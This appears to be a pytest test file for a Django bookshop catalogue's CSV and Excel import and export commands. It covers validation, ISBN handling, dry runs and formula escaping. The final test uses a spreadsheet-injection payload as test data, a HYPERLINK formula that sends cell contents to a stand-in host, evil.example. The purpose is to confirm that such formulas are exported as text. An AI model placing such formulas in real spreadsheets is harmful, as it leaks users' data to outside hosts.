"""`manage.py import_catalogue` / `export_catalogue`: CSV and Excel, all rows or none."""

import csv
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import CommandError, call_command

from catalogue.models import Publication
from tests.factories import PublicationFactory, TopicFactory, UserFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def catalogue():
    topic = TopicFactory(name="Leadership", slug="leadership")
    return [
        PublicationFactory(isbn="9781909029088", title="Patient-centred leadership", price=Decimal("8.50"), stock=20, topics=[topic]),
        PublicationFactory(isbn="9781909029019", title="The NHS workforce in numbers", price=Decimal("10.00"), stock=5),
    ]


def export_rows(tmp_path):
    path = tmp_path / "catalogue.csv"
    call_command("export_catalogue", str(path))
    with path.open(encoding="utf-8") as file:
        return list(csv.DictReader(file))


def write_rows(path, rows):
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, fieldnames=rows[0].keys())
        writer.writeheader()
        writer.writerows(rows)


def test_export_writes_price_stock_and_lists(tmp_path, catalogue):
    rows = {row["isbn"]: row for row in export_rows(tmp_path)}

    seed = rows["9781909029088"]
    assert (seed["price"], seed["stock"], seed["topics"]) == ("8.50", "20", "leadership")
    assert seed["key_findings"].splitlines() == ["First finding.", "Second finding."]


def test_import_of_an_unchanged_export_changes_nothing(tmp_path, catalogue):
    path = tmp_path / "same.csv"
    write_rows(path, export_rows(tmp_path))

    call_command("import_catalogue", str(path))

    assert [p.stock_movements.count() for p in catalogue] == [1, 1]
    assert [p.price_changes.count() for p in catalogue] == [1, 1]


def test_import_sets_price_and_stock_through_history_and_ledger(tmp_path, catalogue):
    manager = UserFactory(username="manager")
    rows = export_rows(tmp_path)
    rows[0].update(price="9.25", stock="30") if rows[0]["isbn"] == "9781909029088" else rows[1].update(price="9.25", stock="30")
    path = tmp_path / "changed.csv"
    write_rows(path, rows)

    call_command("import_catalogue", str(path), "--user", "manager")

    seed = Publication.objects.get(isbn="9781909029088")
    assert (seed.price, seed.stock) == (Decimal("9.25"), 30)
    assert seed.price_changes.first().changed_by == manager
    movement = seed.stock_movements.first()
    assert (movement.delta, movement.reason, movement.created_by) == (10, "correction", manager)


def test_import_converts_isbn10_to_isbn13(tmp_path, catalogue):
    rows = export_rows(tmp_path)
    for row in rows:
        if row["isbn"] == "9781909029088":
            row["isbn"], row["price"] = "1-909029-08-4", "7.00"
    path = tmp_path / "isbn10.csv"
    write_rows(path, rows)

    call_command("import_catalogue", str(path))

    assert Publication.objects.get(isbn="9781909029088").price == Decimal("7.00")
    assert Publication.objects.count() == 2


@pytest.mark.parametrize(
    "field, value, message",
    [
        ("isbn", "978-1-909029-08-9", "row 1 (line 2): isbn: The check digit is wrong"),
        ("isbn", "97819090290", "row 1 (line 2): isbn: An ISBN has 10 or 13 digits"),
        ("isbn", "97819O9029088", "row 1 (line 2): isbn: An ISBN has only digits"),
        ("price", "cheap", "row 1 (line 2): price: 'cheap' is not an amount in pounds"),
        ("price", "-2.00", "row 1 (line 2): price: Ensure this value is greater than or equal to 0.00."),
        ("stock", "-1", "row 1 (line 2): stock: Stock must be a whole number of copies"),
        ("stock", "2.5", "row 1 (line 2): stock: '2.5' is not a whole number"),
        ("stock", "99999999999", "row 1 (line 2): stock: Stock can be at most 1,000,000 copies."),
        ("topics", "leadership;nonsense", "row 1 (line 2): topics: Unknown topic(s): nonsense."),
        ("published", "yesterday", "row 1 (line 2): published:"),
    ],
)
def test_import_refuses_a_bad_row_by_number_and_applies_nothing(tmp_path, catalogue, field, value, message):
    rows = export_rows(tmp_path)
    rows[1]["price"] = "99.00"  # a good change in the same file, which must not be applied either
    rows[0][field] = value
    path = tmp_path / "bad.csv"
    write_rows(path, rows)

    with pytest.raises(CommandError) as error:
        call_command("import_catalogue", str(path))

    assert message in str(error.value)
    assert sorted(Publication.objects.values_list("price", flat=True)) == [Decimal("8.50"), Decimal("10.00")]
    assert sorted(Publication.objects.values_list("stock", flat=True)) == [5, 20]


def test_excel_round_trip_imports_a_new_publication(tmp_path, catalogue):
    path = tmp_path / "catalogue.xlsx"
    call_command("export_catalogue", str(path))
    book = openpyxl.load_workbook(path)
    sheet = book.active
    header = [cell.value for cell in sheet[1]]
    new_row = dict(zip(header, [cell.value for cell in sheet[2]]))
    new_row.update(isbn="978-1-909029-09-5", title="A new report", slug="a-new-report", stock=12, price="6.50")
    sheet.append([new_row[column] for column in header])
    book.save(path)

    call_command("import_catalogue", str(path))

    new = Publication.objects.get(isbn="9781909029095")
    assert (new.title, new.price, new.stock) == ("A new report", Decimal("6.50"), 12)


def test_import_dry_run_changes_nothing(tmp_path, catalogue):
    rows = export_rows(tmp_path)
    for row in rows:
        row["price"] = "1.00"
    path = tmp_path / "dry.csv"
    write_rows(path, rows)

    call_command("import_catalogue", str(path), "--dry-run")

    assert Publication.objects.filter(price=Decimal("1.00")).count() == 0


@pytest.mark.parametrize("file_name", ["catalogue.csv", "catalogue.xlsx"])
def test_export_writes_staff_text_that_looks_like_a_formula_as_text_and_reads_it_back(tmp_path, file_name):
    publication = PublicationFactory(title='=HYPERLINK("https://evil.example/?"&A1,"Click")', subtitle="@SUM(1+1)")
    path = tmp_path / file_name

    call_command("export_catalogue", str(path))

    if file_name.endswith(".csv"):
        [row] = list(csv.DictReader(path.open(encoding="utf-8")))
        title, subtitle = row["title"], row["subtitle"]
    else:
        sheet = openpyxl.load_workbook(path).active
        header = [cell.value for cell in sheet[1]]
        title, subtitle = (sheet.cell(2, header.index(name) + 1).value for name in ("title", "subtitle"))
    assert title == "'" + publication.title and subtitle == "'@SUM(1+1)"
    call_command("import_catalogue", str(path))
    publication.refresh_from_db()
    assert (publication.title, publication.subtitle) == ('=HYPERLINK("https://evil.example/?"&A1,"Click")', "@SUM(1+1)")
